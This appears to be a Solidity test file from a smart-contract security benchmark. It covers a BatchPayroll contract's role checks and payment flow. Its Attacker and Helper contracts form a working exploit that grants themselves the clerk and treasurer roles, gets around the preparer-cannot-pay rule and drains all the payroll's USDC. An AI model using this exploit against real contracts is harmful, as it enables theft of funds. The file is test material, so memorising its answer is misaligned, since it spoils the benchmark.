// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./BatchPayroll.sol";

// assay-canary-27734df4-b97c-4565-b52f-753590356c90

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Usdc is ERC20("USD Coin", "USDC") {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant CLERK = address(0xC1E4C);
    address internal constant TREASURER = address(0x73EA5);
    address internal constant AUDITOR = address(0xA0D1);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Usdc internal usdc;
    BatchPayroll internal payroll;
    Attacker internal mallory;
    address[] internal employees;
    uint256[] internal amounts;

    function setUp() public {
        vm.warp(1_800_000_000);
        usdc = new Usdc();
        payroll = new BatchPayroll(address(this), usdc);
        payroll.grantRole(payroll.CLERK_ROLE(), CLERK);
        payroll.grantRole(payroll.TREASURER_ROLE(), TREASURER);
        payroll.grantRole(payroll.AUDITOR_ROLE(), AUDITOR);
        usdc.mint(address(payroll), 70_000e18);
        employees = [ANA, BEN];
        amounts = [uint256(4_000e18), 5_000e18];
        mallory = new Attacker(payroll, usdc);
    }

    function prepared() internal returns (uint256) {
        vm.prank(CLERK);
        return payroll.prepare(employees, amounts);
    }

    function test_Regular() public {
        uint256 id = prepared();
        vm.warp(block.timestamp + 1 days);
        vm.prank(TREASURER);
        payroll.pay(id);
        require(usdc.balanceOf(ANA) == 4_000e18 && usdc.balanceOf(BEN) == 5_000e18, "paid");
        id = prepared();
        vm.prank(AUDITOR);
        payroll.stop(id);

        bytes32 role = payroll.CLERK_ROLE();
        payroll.grantRole(role, ANA);
        require(payroll.hasRole(role, ANA) && payroll.memberCount(role) == 2, "two clerks");
        payroll.revokeRole(role, CLERK);
        vm.prank(ANA);
        payroll.renounceRole(role, ANA);
        require(!payroll.hasRole(role, CLERK) && payroll.memberCount(role) == 0, "none");
    }

    function denies(address who, bytes32 role) internal {
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role));
    }

    function test_RefusesStrangers() public {
        uint256 id = prepared();
        (bytes32 clerk, bytes32 treasurer) = (payroll.CLERK_ROLE(), payroll.TREASURER_ROLE());
        bytes32 auditor = payroll.AUDITOR_ROLE();
        vm.startPrank(ANA);
        denies(ANA, clerk);
        payroll.prepare(employees, amounts);
        denies(ANA, auditor);
        payroll.stop(id);
        denies(ANA, treasurer);
        payroll.pay(id);
        denies(ANA, bytes32(0));
        payroll.revokeRole(clerk, CLERK);
        vm.stopPrank();
    }

    function test_RefusesBatches() public {
        vm.startPrank(CLERK);
        uint256[] memory one = new uint256[](1);
        vm.expectRevert("BatchPayroll: lengths differ");
        payroll.prepare(employees, one);
        vm.stopPrank();
        uint256 id = prepared();
        vm.prank(TREASURER);
        vm.expectRevert("BatchPayroll: under review");
        payroll.pay(id);
        vm.warp(block.timestamp + 1 days);
        payroll.grantRole(payroll.TREASURER_ROLE(), CLERK);
        vm.prank(CLERK);
        vm.expectRevert("BatchPayroll: prepared by the treasurer");
        payroll.pay(id);
        vm.prank(AUDITOR);
        payroll.stop(id);
        vm.prank(TREASURER);
        vm.expectRevert("BatchPayroll: closed");
        payroll.pay(id);
        vm.prank(AUDITOR);
        vm.expectRevert("BatchPayroll: closed");
        payroll.stop(id);
    }

    function test_RefusesMembers() public {
        bytes32 role = payroll.CLERK_ROLE();
        vm.expectRevert("CappedRoles: already a member");
        payroll.grantRole(role, CLERK);
        payroll.grantRole(role, ANA);
        payroll.grantRole(role, BEN);
        vm.expectRevert("CappedRoles: too many members");
        payroll.grantRole(role, AUDITOR);
    }

    function exploit() public {
        mallory.prepare();
        vm.warp(block.timestamp + 1 days);
        mallory.pay();
    }

    function test_Exploit() public {
        exploit();
        require(usdc.balanceOf(address(mallory)) >= 70_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(usdc);
    }

    function target() public view returns (address) {
        return address(payroll);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Helper {
    function pay(BatchPayroll payroll, uint256 id) external {
        payroll.pay(id);
    }
}

contract Attacker {
    BatchPayroll internal payroll;
    IERC20 internal token;
    Helper internal helper;
    uint256 internal id;

    constructor(BatchPayroll payroll_, IERC20 token_) {
        payroll = payroll_;
        token = token_;
    }

    function prepare() external {
        helper = new Helper();
        payroll.grantRole(payroll.CLERK_ROLE(), address(this));
        payroll.grantRole(payroll.TREASURER_ROLE(), address(helper));
        address[] memory to = new address[](1);
        uint256[] memory amounts = new uint256[](1);
        (to[0], amounts[0]) = (address(this), token.balanceOf(address(payroll)));
        id = payroll.prepare(to, amounts);
    }

    function pay() external {
        helper.pay(payroll, id);
    }
}
